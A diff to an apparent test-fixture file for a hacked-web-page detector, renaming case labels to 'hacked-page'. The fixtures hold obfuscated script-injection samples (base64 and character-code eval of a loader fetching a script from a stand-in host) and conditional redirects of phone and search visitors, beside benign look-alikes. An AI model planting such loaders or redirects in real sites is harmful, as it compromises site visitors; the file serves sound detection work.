@@ -14,15 +14,15 @@ const LOADER =
   'var s=document.createElement("script");s.src="https://odd-host.example/a.js";document.head.appendChild(s)';
 
 const scripts: readonly SiteWideCase[] = [
-  site("packed-script", true, "base64 that is run", shop(script(`eval(atob("${btoa(LOADER)}"))`))),
+  site("hacked-page", true, "base64 that is run", shop(script(`eval(atob("${btoa(LOADER)}"))`))),
   site(
-    "packed-script",
+    "hacked-page",
     true,
     "character codes that are run",
     shop(script(`eval(String.fromCharCode(${codes(LOADER)}))`)),
   ),
   site(
-    "packed-script",
+    "hacked-page",
     true,
     "escapes that are written into the page",
     shop(
@@ -30,7 +30,7 @@ const scripts: readonly SiteWideCase[] = [
     ),
   ),
   site(
-    "packed-script",
+    "hacked-page",
     true,
     "an address in character codes",
     shop(
@@ -40,7 +40,7 @@ const scripts: readonly SiteWideCase[] = [
     ),
   ),
   site(
-    "packed-script",
+    "hacked-page",
     false,
     "a mail address",
     shop(
@@ -48,7 +48,7 @@ const scripts: readonly SiteWideCase[] = [
     ),
   ),
   site(
-    "packed-script",
+    "hacked-page",
     false,
     "an old counter of visitors",
     shop(
@@ -58,13 +58,13 @@ const scripts: readonly SiteWideCase[] = [
     ),
   ),
   site(
-    "packed-script",
+    "hacked-page",
     false,
     "settings",
     shop(script(`var settings = JSON.parse(atob("${btoa('{"cloth":"wool","price":1200}')}"));`)),
   ),
   site(
-    "packed-script",
+    "hacked-page",
     false,
     "a minified library",
     shop(
@@ -74,7 +74,7 @@ const scripts: readonly SiteWideCase[] = [
     ),
   ),
   site(
-    "packed-script",
+    "hacked-page",
     false,
     "code that is shown in an article",
     shop(onBody(`<pre>eval(atob("${btoa(LOADER)}"))</pre>`)),
@@ -83,7 +83,7 @@ const scripts: readonly SiteWideCase[] = [
 
 const redirects: readonly SiteWideCase[] = [
   site(
-    "visitor-redirect",
+    "hacked-page",
     true,
     "phones",
     shop(
@@ -93,7 +93,7 @@ const redirects: readonly SiteWideCase[] = [
     ),
   ),
   site(
-    "visitor-redirect",
+    "hacked-page",
     true,
     "visitors from a search",
     shop(
@@ -103,7 +103,7 @@ const redirects: readonly SiteWideCase[] = [
     ),
   ),
   site(
-    "visitor-redirect",
+    "hacked-page",
     true,
     "phones, to a packed address",
     shop(
@@ -113,7 +113,7 @@ const redirects: readonly SiteWideCase[] = [
     ),
   ),
   site(
-    "visitor-redirect",
+    "hacked-page",
     false,
     "to the site’s own version for phones",
     shop(
@@ -123,7 +123,7 @@ const redirects: readonly SiteWideCase[] = [
     ),
   ),
   site(
-    "visitor-redirect",
+    "hacked-page",
     false,
     "to the shop for apps",
     shop(
@@ -133,13 +133,13 @@ const redirects: readonly SiteWideCase[] = [
     ),
   ),
   site(
-    "visitor-redirect",
+    "hacked-page",
     false,
     "for everybody",
     shop(script('location.href = "https://new-shop.example/";')),
   ),
   site(
-    "visitor-redirect",
+    "hacked-page",
     false,
     "that is counted alone",
     shop(
